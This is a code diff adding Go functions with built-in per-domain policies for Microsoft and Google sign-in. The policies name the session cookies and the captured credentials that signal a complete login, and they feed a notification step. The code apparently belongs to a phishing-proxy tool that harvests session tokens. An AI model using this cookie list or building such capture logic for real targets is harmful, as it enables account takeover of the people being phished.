@@ -0,0 +1,35 @@
+package main
+
+// builtinCompletionPolicies returns the shipped per-domain profiles. Users
+// can override or extend these via config's completion policy YAML; an
+// entry there for a domain already listed here replaces it.
+func builtinCompletionPolicies() map[string]CompletionPolicy {
+	return map[string]CompletionPolicy{
+		"login.microsoftonline.com": {
+			Domain:             "login.microsoftonline.com",
+			RequiredTokens:     []string{"ESTSAUTH", "ESTSAUTHPERSISTENT"},
+			AllowHTTPOnly:      true,
+			MinTokenCount:      1,
+			RequireCredentials: true,
+		},
+		"accounts.google.com": {
+			Domain:             "accounts.google.com",
+			RequiredTokens:     []string{"SID", "HSID"},
+			AllowHTTPOnly:      true,
+			MinTokenCount:      1,
+			RequireCredentials: true,
+		},
+	}
+}
+
+// loadCompletionPolicies builds the CompletionPolicySet used by Notify: the
+// built-in profiles, overlaid with any custom policies from config.
+func loadCompletionPolicies(config Config) CompletionPolicySet {
+	byDomain := builtinCompletionPolicies()
+
+	for _, p := range parseCompletionPolicyYAML(config.CompletionPolicyYAML) {
+		byDomain[normalizeDomain(p.Domain)] = p
+	}
+
+	return CompletionPolicySet{Default: defaultCompletionPolicy, ByDomain: byDomain}
+}